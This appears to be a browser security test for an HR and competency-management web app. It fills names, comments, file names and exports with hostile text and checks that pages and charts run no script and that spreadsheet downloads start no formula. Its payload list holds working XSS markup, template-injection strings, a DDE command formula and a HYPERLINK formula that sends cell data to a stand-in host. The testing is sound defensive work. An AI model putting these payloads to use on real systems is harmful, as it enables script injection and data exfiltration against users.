// Browser test of what users' text can do in other users' browsers and files
// (issue 12, defects 3 and 6): every name and free-text field is filled through
// the API with script, markup and formula payloads, then the pages are visited
// as the national administrator and an HR officer, the charts hovered until
// their tooltips show, and every export downloaded. No script may run, the
// Content-Security-Policy may report nothing, and no spreadsheet cell may start
// a formula.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { sql } from 'kysely';
import type { Page } from 'playwright-core';
import type { RunningServer } from '../../src/server.js';
import { DEMO_PASSWORD } from '../../src/modules/accounts/accounts.demo.js';
import { FORMULA_START } from '../../src/platform/export/spreadsheet-safe.js';
import { insertCycle, insertResults, nationalCompetencies } from '../needs/needs-fixture.js';
import { emit } from '../../src/modules/events.js';
import { issueAllPending } from '../../src/modules/training/credentials/issue.service.js';
import { CHANGE_SET_COLUMNS } from '../../src/modules/org/unit-changes/change-set.plan.js';
import { CROSSWALK_COLUMNS } from '../../src/modules/org/unit-changes/crosswalk.plan.js';
import { CONSENT_VERSION } from '../../src/modules/recruitment/campaign-rules.js';
import { useBrowserSession } from './browser.js';

const MARKUP = '<img src=x onerror="window.__xss=1"><svg onload=window.__xss=1>';
const PAYLOADS = [
  MARKUP,
  '<script>window.__xss=1</script>',
  '"><svg onload=window.__xss=1>',
  'javascript:window.__xss=1',
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  "{{constructor.constructor('window.__xss=1')()}}",
  '<a href="javascript:window.__xss=1">x</a>',
  "=cmd|' /C calc'!A0",
];
/** Payload number i, cycling: each field gets one, the chart fields the markup one. */
const payload = (i: number) => PAYLOADS[i % PAYLOADS.length]!;

interface Ids {
  cycleId: string;
  apiCycleId: string;
  personId: string;
  departmentId: string;
  extensionVersionId: string;
  importJobId: string;
  formId: string;
  institutionId: string;
  courseId: string;
  sessionId: string;
  credentialId: string;
  planPersonId: string;
  campaignId: string;
  applicationId: string;
}
const ids = {} as Ids;

type Call = (
  method: 'GET' | 'POST' | 'PUT' | 'PATCH',
  url: string,
  payload?: unknown,
  headers?: Record<string, string>,
) => Promise<{ statusCode: number; body: string; json: () => any }>;

/** A signed-in caller of the running app's API (cookie and CSRF token), without a browser. */
async function apiAs(server: RunningServer, username: string, password = DEMO_PASSWORD): Promise<Call> {
  const login = await server.app.inject({ method: 'POST', url: '/api/auth/login', payload: { username, password } });
  expect(login.statusCode).toBe(200);
  const cookie = login.cookies.map((c) => `${c.name}=${c.value}`).join('; ');
  const csrf = login.json().csrfToken as string;
  return async (method, url, body, headers = {}) => {
    const res = await server.app.inject({
      method,
      url,
      headers: { cookie, 'x-csrf-token': csrf, ...headers },
      ...(body === undefined ? {} : { payload: body as string }),
    });
    return { statusCode: res.statusCode, body: res.body, json: () => res.json() };
  };
}

/** A change answered without a body (204). */
const done = async (answer: Promise<{ statusCode: number; body: string }>, what: string) => {
  const res = await answer;
  expect(res.statusCode, `${what}: ${res.body.slice(0, 300)}`).toBeLessThan(300);
};

const ok = async (answer: Promise<{ statusCode: number; body: string; json: () => unknown }>, what: string) => {
  const res = await answer;
  expect(res.statusCode, `${what}: ${res.body.slice(0, 300)}`).toBeLessThan(300);
  return res.json() as any;
};

/** Fill every name and free-text field the app has with payloads, through the API. */
async function plantHostileText(server: RunningServer): Promise<void> {
  const db = server.app.db;
  const admin = await apiAs(server, 'admin');
  const hr = await apiAs(server, 'hr.hanoi');
  let n = 0;

  // Consolidated results of a closed cycle, so the needs charts and the report card have something to draw.
  const competencies = await nationalCompetencies(db, 12);
  ids.cycleId = await insertCycle(db, 'Kiểm thử', '2026-03-01', competencies[0]!.versionId);
  await insertResults(db, ids.cycleId, competencies);
  await ok(admin('PATCH', `/api/assessments/cycles/${ids.cycleId}`, { name: MARKUP, nameEn: MARKUP }), 'rename the closed cycle');
  // The published national framework cannot be edited through the API (its text came from an import, which is
  // user input too): its competencies' names are set here so the heatmap, gap chart and radar show payloads.
  await sql`UPDATE competencies SET name_vi = ${MARKUP} || ' ' || code, name_en = ${MARKUP} || ' ' || code WHERE id = ANY(${competencies.map((c) => c.id)}::uuid[])`.execute(
    db,
  );

  // Agencies: the rows of the Hà Nội officer's heatmap and table.
  const agencies = (await ok(hr('GET', '/api/org/agencies'), 'agencies')).items as Array<{ id: string; code: string }>;
  const hanoi = agencies.find((a) => a.code === 'HN')!;
  ids.departmentId = agencies.find((a) => a.code === 'HN-SNV')!.id;
  await ok(hr('POST', `/api/org/agencies/${ids.departmentId}/rename`, { name: MARKUP, nameEn: payload(n++), effectiveDate: '2020-01-01' }), 'rename agency');
  const hoanKiem = agencies.find((a) => a.code === 'HN-HOANKIEM')!;
  await ok(
    hr('POST', `/api/org/agencies/${hoanKiem.id}/rename`, {
      name: `=HYPERLINK("http://evil.example","x") ${MARKUP}`,
      nameEn: payload(n++),
      effectiveDate: '2020-01-01',
    }),
    'rename agency',
  );
  await ok(hr('POST', '/api/org/agencies', { code: 'HN-XSS', kind: 'department', name: payload(n++), nameEn: payload(n++), parentId: hanoi.id }), 'agency');

  // Positions and people.
  const position = await ok(
    hr('POST', '/api/positions', {
      code: 'XSS-1',
      title: { vi: payload(n++), en: payload(n++) },
      roleCategory: 'professional',
      tier: 'province',
      agencyId: hanoi.id,
    }),
    'position',
  );
  const people = (await ok(hr('GET', '/api/people?limit=5'), 'people')).items as Array<{ id: string }>;
  ids.personId = people[0]!.id;
  await ok(hr('PATCH', `/api/people/${ids.personId}`, { fullName: MARKUP, phone: payload(n++).slice(0, 40) }), 'rename person');
  await ok(
    hr('POST', '/api/people', { staffCode: '=HN-XSS', agencyId: ids.departmentId, fullName: payload(n++), rank: payload(n++), positionId: position.id }),
    'person',
  );

  // Accounts.
  await ok(
    hr('POST', '/api/accounts', {
      username: 'xss.user',
      displayName: payload(n++),
      role: 'civil_servant',
      agencyId: ids.departmentId,
      password: 'Hostile@2026-Text',
    }),
    'account',
  );

  // Assessment: a cycle's names, a question bank text.
  const versionId = competencies[0]!.versionId;
  const cycle = await ok(
    hr('POST', '/api/assessments/cycles', {
      name: payload(n++),
      nameEn: payload(n++),
      kind: 'ad_hoc',
      opensOn: '2026-11-01',
      closesOn: '2026-12-31',
      frameworkVersionId: versionId,
    }),
    'cycle',
  );
  ids.apiCycleId = cycle.id;
  await ok(
    hr('POST', '/api/assessments/questions', {
      competencyId: competencies[0]!.id,
      stem: payload(n++),
      stemEn: payload(n++),
      options: [
        { vi: payload(n++), en: payload(n++) },
        { vi: payload(n++), en: '' },
      ],
      correctOption: 0,
    }),
    'question',
  );

  // Comments on a rating form: an open cycle for the department, the self-assessment saved as a draft.
  const today = new Date().toISOString().slice(0, 10);
  const open = await ok(
    hr('POST', '/api/assessments/cycles', {
      name: payload(n++),
      kind: 'ad_hoc',
      scope: { agencyIds: [ids.departmentId] },
      opensOn: today,
      closesOn: '2099-12-31',
      frameworkVersionId: versionId,
      status: 'open',
    }),
    'open cycle',
  );
  await ok(hr('POST', `/api/assessments/cycles/${open.id}/assign`, {}), 'assign');
  const canbo = await apiAs(server, 'canbo.hanoi');
  const forms = (await ok(canbo('GET', '/api/assessments/forms'), 'forms')).items as Array<{ id: string; cycleId: string }>;
  ids.formId = forms.find((f) => f.cycleId === open.id)!.id;
  const form = await ok(canbo('GET', `/api/assessments/forms/${ids.formId}`), 'form');
  const ratings = (form.competencies as Array<{ id: string }>).map((c, i) => ({
    competencyId: c.id,
    level: 3,
    comment: payload(n + i),
    evidenceUrl: `https://evil.example/?q=${encodeURIComponent(PAYLOADS[1]!)}`,
  }));
  await ok(canbo('PUT', `/api/assessments/forms/${ids.formId}`, { ratings }), 'form draft with comments');

  // Framework: an agency extension with hostile names, descriptions and indicators.
  const frameworks = (await ok(hr('GET', '/api/frameworks'), 'frameworks')).items as Array<{ id: string; scope: string }>;
  const extension = await ok(
    hr('POST', `/api/frameworks/${frameworks.find((f) => f.scope === 'national')!.id}/extensions`, { code: 'HN-XSS', name: { vi: MARKUP, en: payload(n++) } }),
    'extension',
  );
  ids.extensionVersionId = extension.versionId;
  const doc = (await ok(hr('GET', `/api/frameworks/versions/${ids.extensionVersionId}`), 'extension doc')).document;
  doc.description = { vi: payload(n++), en: payload(n++) };
  doc.groups.push({ code: 'XSS', kind: 'functional', name: { vi: payload(n++), en: payload(n++) }, description: { vi: payload(n++), en: payload(n++) } });
  doc.competencies.push({
    code: 'XSS.1',
    groupCode: 'XSS',
    parentCode: null,
    name: { vi: MARKUP, en: payload(n++) },
    description: { vi: payload(n++), en: payload(n++) },
    indicators: [1, 2, 3, 4, 5].map((level) => ({ level, text: { vi: payload(n + level), en: payload(n + level + 1) } })),
  });
  await ok(hr('PUT', `/api/frameworks/versions/${ids.extensionVersionId}`, doc), 'extension content');

  // Training catalogue: a course and a lecturer of the demo academy with hostile titles, names and description.
  const trainer = await apiAs(server, 'trainer');
  ids.institutionId = (await ok(trainer('GET', '/api/training/institutions'), 'institutions')).mine;
  const course = await ok(
    trainer('POST', `/api/training/institutions/${ids.institutionId}/courses`, {
      code: 'XSS-1',
      title: MARKUP,
      titleEn: payload(n++),
      description: payload(n++),
      format: 'online',
      hours: 4,
      costPerSeat: 0,
      frameworkVersionId: versionId,
      competencies: [{ competencyId: competencies[0]!.id, fromLevel: 0, toLevel: 1 }],
    }),
    'course',
  );
  ids.courseId = course.id;
  await ok(
    trainer('POST', `/api/training/institutions/${ids.institutionId}/lecturers`, {
      fullName: payload(n++),
      title: `=HYPERLINK("http://evil.example","x")`,
      competencies: [{ competencyId: competencies[0]!.id, maxLevel: 3 }],
    }),
    'lecturer',
  );

  // Sessions: place, online link and meeting topics of a session of the hostile course; the hostile-named
  // person enrolled by HR, completed, and certified (the certificate carries the course title and the name).
  const day = (offset: number) => new Date(Date.now() + offset * 86_400_000).toISOString().slice(0, 10);
  const hostileSession = await ok(
    trainer('POST', '/api/training/sessions', {
      courseId: ids.courseId,
      code: 'XSS-S1',
      startsOn: day(20),
      endsOn: day(21),
      place: payload(n++),
      onlineUrl: 'https://evil.example/"><svg onload=window.__xss=1>',
      seats: 10,
      enrolOpensOn: day(-1),
      enrolClosesOn: day(19),
      meetings: [
        { startsAt: `${day(20)}T01:00:00Z`, endsAt: `${day(20)}T04:00:00Z`, topic: MARKUP },
        { startsAt: `${day(21)}T01:00:00Z`, endsAt: `${day(21)}T04:00:00Z`, topic: payload(n++) },
      ],
    }),
    'session',
  );
  ids.sessionId = hostileSession.id;
  const enrolled = await ok(hr('POST', `/api/training/sessions/${ids.sessionId}/enrolments`, { personIds: [ids.personId] }), 'enrolment');
  const enrolmentId = enrolled.items[0].id as string;
  // Completion as the sessions module records it (the row and its event in one transaction), then signed.
  await db.transaction().execute(async (trx) => {
    const e = await trx
      .updateTable('training_enrolments')
      .set({ status: 'completed', completed_at: new Date(), attendance_share: 1 })
      .where('id', '=', enrolmentId)
      .returning(['id', 'person_id', 'session_id', 'agency_id'])
      .executeTakeFirstOrThrow();
    const agency = await trx.selectFrom('agencies').select('path').where('id', '=', e.agency_id).executeTakeFirstOrThrow();
    await emit(trx, 'training.completed', {
      enrolmentId: e.id,
      personId: e.person_id,
      sessionId: e.session_id,
      courseId: ids.courseId,
      institutionId: ids.institutionId,
      agencyPath: agency.path,
      completedAt: new Date().toISOString(),
    });
  });
  await issueAllPending(db);
  ids.credentialId = (await db.selectFrom('training_credentials').where('enrolment_id', '=', enrolmentId).select('id').executeTakeFirstOrThrow()).id;

  // A development plan returned by the leader with a hostile note (canbo.hanoi's, whose leader is leader.hanoi).
  const planHolder = await apiAs(server, 'canbo.hanoi');
  ids.planPersonId = (await ok(planHolder('GET', '/api/auth/me'), 'me')).user.personId;
  const offered = await ok(planHolder('GET', `/api/training/plans/people/${ids.planPersonId}`), 'recommendations');
  const firstCourse = (offered.recommendations as Array<{ courseId: string }>)[0]!.courseId;
  const plan = await ok(planHolder('PUT', `/api/training/plans/people/${ids.planPersonId}`, { items: [{ courseId: firstCourse }] }), 'plan');
  await ok(planHolder('POST', `/api/training/plans/${plan.plan.id}/submit`, {}), 'submit plan');
  const leader = await apiAs(server, 'leader.hanoi');
  await ok(leader('POST', `/api/training/plans/${plan.plan.id}/decision`, { decision: 'return', note: MARKUP }), 'return plan');

  // The quality classification: a disqualifying reason typed by HR.
  await ok(
    hr('PUT', `/api/evaluation/quality/people/${ids.personId}/2026`, {
      periods: [{ period: '2026-Q1', general: 20, tasks: 50 }],
      disqualified: true,
      disqualifyingReason: MARKUP,
    }),
    'quality',
  );

  // An official unit change (national administrator): Đà Nẵng renamed to a payload, with a payload legal basis and
  // file name, so the unit-changes history, the units browser and every page naming the province carry it.
  const quoted = (text: string) => `"${text.replace(/"/g, '""')}"`;
  const changeSet = [CHANGE_SET_COLUMNS.join(';'), `2026-01-01;Đổi tên;Tỉnh;48;;;${quoted(MARKUP)};;;${quoted(payload(n++))}`].join('\n');
  await ok(
    admin('POST', `/api/org/admin-units/changes?kind=changes&fileName=${encodeURIComponent(payload(4) + '.csv')}`, changeSet, {
      'content-type': 'application/octet-stream',
    }),
    'unit change set',
  );
  await plantRecruitment(server, position.id, n);

  // A staff import whose file name and rejected values are payloads (the report repeats them).
  const file = [
    'Mã cán bộ,Họ và tên,Ngày sinh,Giới tính,Mã cơ quan',
    ...PAYLOADS.map((p, i) => `X-${i},"${p.replace(/"/g, '""')}",not a date,?,"${p.replace(/"/g, '""')}"`),
  ].join('\n');
  const job = await ok(
    hr('POST', `/api/people/import?fileName=${encodeURIComponent("=cmd|' /C calc'!A0.csv")}`, file, { 'content-type': 'text/csv' }),
    'import',
  );
  ids.importJobId = job.id;
  for (let i = 0; i < 200; i++) {
    const state = await ok(hr('GET', `/api/people/import/${job.id}`), 'import job');
    if (!['reading', 'validating', 'committing'].includes(state.phase)) break;
    await new Promise((r) => setTimeout(r, 25));
  }
}

/**
 * Recruitment (issue 17): a published campaign of Hà Nội with hostile title, notice and stage names, for the
 * hostile-titled position; a candidate with a hostile name signs up and applies with a hostile file name; a
 * panel member (leader.hanoi) declares and rates, so the ranking, its PDF and xlsx carry the name and the
 * profile's hostile competency names as shortfalls.
 */
async function plantRecruitment(server: RunningServer, positionId: string, start: number): Promise<void> {
  let n = start;
  const hr = await apiAs(server, 'hr.hanoi');
  const leader = await apiAs(server, 'leader.hanoi');
  const day = 86_400_000;
  const campaign = await ok(
    hr('POST', '/api/recruitment/campaigns', {
      code: 'HN-TD-XSS',
      title: MARKUP,
      notice: PAYLOADS.join('\n'),
      applicationsOpenAt: new Date(Date.now() - day).toISOString(),
      applicationsCloseAt: new Date(Date.now() + 30 * day).toISOString(),
      tieBreak: ['highest_weight_stage', 'earlier_submission'],
      posts: [{ positionId, posts: 1 }],
      stages: [
        { kind: 'screening', name: payload(n++), weight: 0 },
        { kind: 'interview', name: `=HYPERLINK("http://evil.example","x") ${MARKUP}`, weight: 1 },
      ],
    }),
    'recruitment campaign',
  );
  ids.campaignId = campaign.id;
  const leaderId = (await ok(leader('GET', '/api/auth/me'), 'leader me')).user.id as string;
  await done(hr('PUT', `/api/recruitment/campaigns/${ids.campaignId}/panel`, { members: [{ userId: leaderId, panelRole: 'chair' }] }), 'panel');
  await done(hr('POST', `/api/recruitment/campaigns/${ids.campaignId}/status/publish`), 'publish campaign');
  const signUp = await server.app.inject({
    method: 'POST',
    url: '/api/recruitment/public/sign-up',
    payload: { username: 'xss.candidate', password: 'Hostile@2026-Text', fullName: MARKUP, email: 'xss@example.vn', phone: null, campaignId: ids.campaignId },
  });
  expect(signUp.statusCode, signUp.body).toBe(201);
  const candidate = await apiAs(server, 'xss.candidate', 'Hostile@2026-Text');
  const pdf = Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n', 'latin1');
  const applied = await ok(
    candidate('POST', `/api/recruitment/campaigns/${ids.campaignId}/applications`, {
      positionId,
      consentVersion: CONSENT_VERSION,
      documents: [{ kind: 'cv', fileName: `${payload(n++)}.pdf`, content: pdf.toString('base64') }],
    }),
    'application',
  );
  ids.applicationId = applied.id;
  await done(leader('PUT', `/api/recruitment/campaigns/${ids.campaignId}/declaration`, { conflicts: [] }), 'declaration');
  const stages = (await ok(hr('GET', `/api/recruitment/campaigns/${ids.campaignId}`), 'campaign')).stages as Array<{ id: string; kind: string }>;
  const interview = stages.find((st) => st.kind === 'interview')!.id;
  const sheet = await ok(leader('GET', `/api/recruitment/applications/${ids.applicationId}/stages/${interview}/sheet`), 'sheet');
  const ratings = (sheet.competencies as Array<{ id: string }>).map((c) => ({ competencyId: c.id, level: 1 }));
  // The position took its role × tier template as its profile: the national competencies renamed above.
  expect(ratings.length).toBeGreaterThan(0);
  await ok(leader('PUT', `/api/recruitment/applications/${ids.applicationId}/stages/${interview}/sheet`, { ratings, submit: true }), 'rating');
}

const session = useBrowserSession({ afterStart: plantHostileText });

interface Watch {
  page: Page;
  problems: string[];
}

/** A signed-in page that records every dialog, page error and CSP report. */
async function watched(username: string): Promise<Watch> {
  const problems: string[] = [];
  const page = await session.newPage({ width: 1280, height: 900 });
  page.on('dialog', (dialog) => {
    problems.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('console', (message) => {
    if (/Content Security Policy|Refused to/i.test(message.text())) problems.push(`csp: ${message.text()}`);
  });
  page.on('pageerror', (error) => problems.push(`error: ${error.message}`));
  // 'anonymous': the public pages (certificate verification), signed out.
  if (username === 'anonymous') return { page, problems };
  await page.goto(`${session.server.url}/`);
  // 'name:purpose': the same account a second time (its pages listed apart, e.g. a leader as a panel member).
  const account = username.split(':')[0]!;
  await session.signIn(page, account, account === 'xss.candidate' ? 'Hostile@2026-Text' : undefined);
  await page.getByTestId('nav-overview').first().waitFor();
  return { page, problems };
}

const CHARTS = ['needs-heatmap', 'needs-trend', 'needs-person-chart', 'radar-chart'];

/** Move the mouse over every chart on the page until tooltips show; answers the tooltips' HTML seen. */
async function hoverCharts(page: Page): Promise<Array<{ chart: string; html: string }>> {
  const seen: Array<{ chart: string; html: string }> = [];
  for (const testId of CHARTS) {
    for (const chart of await page.getByTestId(testId).all()) {
      await chart.scrollIntoViewIfNeeded();
      const box = await chart.boundingBox();
      if (!box) continue;
      for (let y = 0.1; y < 1; y += 0.12) {
        for (let x = 0.05; x < 1; x += 0.1) {
          await page.mouse.move(box.x + box.width * x, box.y + box.height * y);
        }
        // ECharts' HTML tooltip: the absolutely positioned div it adds inside the chart.
        const html = await chart.evaluate((el) =>
          Array.from(el.querySelectorAll('div'))
            .filter((d) => d.style.zIndex === '9999999' && d.style.display !== 'none')
            .map((d) => d.innerHTML),
        );
        seen.push(...html.filter((h) => h.trim() !== '').map((h) => ({ chart: testId, html: h })));
      }
    }
  }
  return seen;
}

async function formulaCellsOf(payload: Buffer, kind: 'csv' | 'xlsx'): Promise<{ cells: number; formulas: string[] }> {
  let texts: string[];
  if (kind === 'csv') {
    texts = parse(payload.toString('utf8').replace(/^\uFEFF/, ''), { relax_column_count: true }).flat();
  } else {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(payload as unknown as ArrayBuffer);
    texts = [];
    for (const sheet of book.worksheets) sheet.eachRow((row) => row.eachCell((cell) => texts.push(typeof cell.value === 'string' ? cell.value : '')));
  }
  return { cells: texts.length, formulas: texts.filter((t) => FORMULA_START.test(t)) };
}

describe('hostile text', () => {
  it('runs no script in any page or chart tooltip and starts no formula in any export', async () => {
    let visited = 0;
    let shownAsText = 0;
    let scripts = 0;
    const tooltips: Array<{ chart: string; html: string }> = [];
    const problems: string[] = [];
    const pages: Record<string, string[]> = {
      admin: [
        '/',
        '/frameworks',
        `/frameworks/versions/${ids.extensionVersionId}`,
        '/positions',
        '/positions?view=matrix',
        '/positions?view=templates',
        '/org',
        '/org?tab=unit-changes',
        '/org?tab=agencies',
        '/people',
        `/people/${ids.personId}`,
        '/assessments',
        `/assessments/cycles/${ids.cycleId}`,
        `/assessments/cycles/${ids.apiCycleId}`,
        `/assessments/reports/${ids.personId}`,
        `/needs?cycle=${ids.cycleId}`,
        `/needs?cycle=${ids.cycleId}&level=agency&id=${ids.departmentId}&columns=competency`,
        `/needs/agencies/${ids.departmentId}/people`,
        `/needs/people/${ids.personId}`,
        '/accounts',
        '/audit',
        '/jobs',
        '/me',
      ],
      trainer: [
        '/training/catalogue?q=XSS',
        `/training/catalogue/courses/${ids.courseId}`,
        '/training/institution',
        '/training/sessions',
        `/training/sessions/${ids.sessionId}`,
        '/training/certificates',
      ],
      'leader.hanoi': [`/training/plans/${ids.planPersonId}`, '/training/plans'],
      anonymous: [`/verify/${ids.credentialId}`, '/careers', `/careers/${ids.campaignId}`],
      'xss.candidate': ['/', '/recruitment', `/recruitment/applications/${ids.applicationId}`, `/recruitment/apply/${ids.campaignId}`],
      'leader.hanoi:panel': [
        '/recruitment',
        `/recruitment/campaigns/${ids.campaignId}`,
        `/recruitment/campaigns/${ids.campaignId}/declaration`,
        `/recruitment/assess/campaigns/${ids.campaignId}/ranking`,
      ],
      'canbo.hanoi': ['/', '/assessments', `/assessments/forms/${ids.formId}`, '/me', '/training/plan'],
      'hr.hanoi': [
        '/',
        `/needs?cycle=${ids.cycleId}`,
        `/needs?cycle=${ids.cycleId}&columns=competency`,
        '/people',
        '/people/import',
        '/org',
        '/accounts',
        '/assessments',
        `/frameworks/versions/${ids.extensionVersionId}`,
        '/audit',
        `/training/sessions/${ids.sessionId}`,
        '/training/certificates',
        '/evaluation',
        '/recruitment',
        `/recruitment/campaigns/${ids.campaignId}`,
        `/recruitment/applications/${ids.applicationId}`,
        `/recruitment/assess/campaigns/${ids.campaignId}/ranking`,
      ],
    };
    const mustShow = new Set([
      `/training/sessions/${ids.sessionId}`,
      `/verify/${ids.credentialId}`,
      '/training/plan',
      `/training/plans/${ids.planPersonId}`,
      '/careers',
      `/careers/${ids.campaignId}`,
      `/recruitment/campaigns/${ids.campaignId}`,
      `/recruitment/applications/${ids.applicationId}`,
      `/recruitment/assess/campaigns/${ids.campaignId}/ranking`,
    ]);
    const downloads: Array<{ url: string; kind: 'csv' | 'xlsx' | 'pdf' }> = [
      { url: `/api/needs/breakdown.xlsx?cycleId=${ids.cycleId}`, kind: 'xlsx' },
      { url: `/api/needs/breakdown.xlsx?cycleId=${ids.cycleId}&columns=competency`, kind: 'xlsx' },
      { url: `/api/needs/report.pdf?cycleId=${ids.cycleId}`, kind: 'pdf' },
      { url: `/api/assessments/reports/people/${ids.personId}/pdf?cycleId=${ids.cycleId}`, kind: 'pdf' },
      { url: `/api/frameworks/versions/${ids.extensionVersionId}/export?format=moodle-csv`, kind: 'csv' },
      { url: `/api/frameworks/versions/${ids.extensionVersionId}/export?format=xlsx`, kind: 'xlsx' },
      { url: '/api/people/import/template?format=xlsx', kind: 'xlsx' },
      { url: `/api/training/institutions/${ids.institutionId}/catalogue.xlsx`, kind: 'xlsx' },
      { url: `/api/training/credentials/${ids.credentialId}/certificate.pdf`, kind: 'pdf' },
      { url: '/api/people/import/template?format=csv', kind: 'csv' },
      { url: `/api/people/import/${ids.importJobId}/report?format=csv`, kind: 'csv' },
      { url: `/api/people/import/${ids.importJobId}/report?format=xlsx`, kind: 'xlsx' },
      { url: `/api/recruitment/public/campaigns/${ids.campaignId}/notice.pdf`, kind: 'pdf' },
      { url: `/api/recruitment/campaigns/${ids.campaignId}/notice.pdf`, kind: 'pdf' },
      { url: `/api/recruitment/campaigns/${ids.campaignId}/ranking.pdf`, kind: 'pdf' },
      { url: `/api/recruitment/campaigns/${ids.campaignId}/ranking.xlsx`, kind: 'xlsx' },
    ];

    for (const [username, paths] of Object.entries(pages)) {
      const watch = await watched(username);
      for (const path of paths) {
        await watch.page.goto(`${session.server.url}${path}`, { waitUntil: 'networkidle' });
        visited += 1;
        tooltips.push(...(await hoverCharts(watch.page)));
        // The payload is on the page as text (typed into fields counts too): the page did show hostile data.
        const shows = await watch.page.evaluate(
          () =>
            document.body.innerText.includes('__xss=1') ||
            Array.from(document.querySelectorAll('input, textarea')).some((e) => (e as HTMLInputElement).value.includes('__xss=1')),
        );
        // The training pages' own fields (place, topics, note, the certificate's name and title) must show as text.
        if (!shows && mustShow.has(path)) problems.push(`payload not shown as text on ${path} as ${username}`);
        if (shows) shownAsText += 1;
        if (await watch.page.evaluate(() => (window as { __xss?: unknown }).__xss !== undefined)) {
          scripts += 1;
          problems.push(`script ran on ${path} as ${username}`);
        }
      }
      problems.push(...watch.problems.map((p) => `${username}: ${p}`));
    }

    // Exports, downloaded with the HR officer's browser session (the import job is theirs).
    let exportsChecked = 0;
    let formulaCells = 0;
    const hr = await watched('hr.hanoi');
    const admin = await watched('admin');
    for (const { url, kind } of downloads) {
      const owner = url.includes('/import/') || url.includes('/frameworks/') || url.includes('/needs/') || url.includes('/recruitment/') ? hr : admin;
      const res = await owner.page.request.get(`${session.server.url}${url}`);
      expect(res.status(), url).toBe(200);
      const body = await res.body();
      const disposition = res.headers()['content-disposition'] ?? '';
      expect(disposition, url).not.toMatch(/filename="[=+\-@]/);
      if (kind === 'pdf') {
        expect(body.subarray(0, 5).toString(), url).toBe('%PDF-');
      } else {
        const { cells, formulas } = await formulaCellsOf(body, kind);
        expect(cells, url).toBeGreaterThan(0);
        formulaCells += formulas.length;
        expect(formulas, url).toEqual([]);
      }
      exportsChecked += 1;
    }

    const shown = CHARTS.map((chart) => `${chart} ${tooltips.filter((t) => t.chart === chart).length}`).join(', ');
    console.log(
      `hostile: ${PAYLOADS.length} payloads, ${visited} pages visited (payload shown as text on ${shownAsText}), ${exportsChecked} exports checked, tooltips: ${shown}, scripts run = ${scripts}, formula cells = ${formulaCells}`,
    );
    expect(problems).toEqual([]);
    expect(shownAsText).toBeGreaterThan(visited / 2);
    expect(scripts).toBe(0);
    // The tooltips did show, with the payload as text (escaped), not as markup.
    for (const chart of CHARTS)
      expect(
        tooltips.some((t) => t.chart === chart && t.html.includes('&lt;img src=x onerror=')),
        chart,
      ).toBe(true);
    expect(tooltips.filter((t) => /<img|<svg onload/i.test(t.html))).toEqual([]);
  }, 600_000);

  it('shows hostile unit names and notes of a crosswalk as text in the unit-changes preview and its lists', async () => {
    const watch = await watched('admin');
    const { page } = watch;
    await page.goto(`${session.server.url}/org?tab=unit-changes`, { waitUntil: 'networkidle' });
    // The history lists the set planted above, its file name a payload, as text.
    expect(await page.getByTestId('unit-change-sets').innerText()).toContain(payload(4));
    const header = CROSSWALK_COLUMNS.map((c) => `"${c}"`).join(',');
    const quoted = (text: string) => `"${text.replace(/"/g, '""')}"`;
    const upload = async (name: string, rows: string[]) => {
      const file = path.join(os.tmpdir(), `nangluc-hostile-${process.pid}-${name}`);
      fs.writeFileSync(file, [header, ...rows].join('\n'));
      await page.locator('input[type="file"]').setInputFiles(file);
      await page.getByTestId('unit-changes-preview').click();
      fs.rmSync(file, { force: true });
    };
    // A correct row whose old and new commune names are payloads: a preview with both names in its warnings.
    await upload('names.csv', [
      `"Tỉnh Quảng Ngãi (51)",${quoted(MARKUP)},23500,${quoted(PAYLOADS[2]!)},23521,Nhập toàn bộ,"Huyện Đắk Hà (615)",${quoted(PAYLOADS[4]!)}`,
    ]);
    await page.getByTestId('unit-changes-plan').waitFor();
    const warned = await page.getByTestId('unit-changes-plan').innerText();
    expect(warned).toContain('onerror="window.__xss=1"');
    expect(warned).toContain(PAYLOADS[2]!);
    // A payload note: the refusal quotes it, as text.
    await upload('note.csv', [`"Tỉnh Quảng Ngãi (51)",Xã Đăk Hà,23500,Xã Hà Mòn,23521,${quoted(PAYLOADS[7]!)},,`]);
    const refused = page.getByTestId('issue-list');
    await expect
      .poll(
        async () =>
          (await refused
            .first()
            .innerText()
            .catch(() => '')) ?? '',
        { timeout: 30_000 },
      )
      .toContain(PAYLOADS[7]!);
    // The list downloaded as CSV starts no formula.
    const downloading = page.waitForEvent('download');
    await refused.first().getByTestId('issue-list-download').click();
    const csv = fs.readFileSync(await (await downloading).path());
    const { cells, formulas } = await formulaCellsOf(csv, 'csv');
    expect(cells).toBeGreaterThan(0);
    expect(formulas).toEqual([]);
    expect(await page.evaluate(() => (window as { __xss?: unknown }).__xss)).toBeUndefined();
    expect(watch.problems).toEqual([]);
  }, 180_000);

  it('Swagger UI at /api/docs works under its Content-Security-Policy', async () => {
    const page = await session.newPage();
    const reports: string[] = [];
    page.on('console', (message) => {
      if (/Content Security Policy|Refused to/i.test(message.text())) reports.push(message.text());
    });
    page.on('pageerror', (error) => reports.push(error.message));
    await page.goto(`${session.server.url}/api/docs`);
    // Every tag of the document is listed (collapsed), and opening one shows its operations.
    const spec = (await (await fetch(`${session.server.url}/api/openapi.json`)).json()) as { paths: Record<string, Record<string, { tags?: string[] }>> };
    const tags = new Set(Object.values(spec.paths).flatMap((ops) => Object.values(ops).flatMap((op) => op.tags ?? [])));
    expect(tags.size).toBeGreaterThan(10);
    await expect.poll(() => page.locator('.opblock-tag').count(), { timeout: 20_000 }).toBe(tags.size);
    await page.locator('#operations-tag-training').click();
    await expect.poll(() => page.locator('.opblock').count(), { timeout: 20_000 }).toBeGreaterThan(30);
    expect(reports).toEqual([]);
  }, 60_000);
});
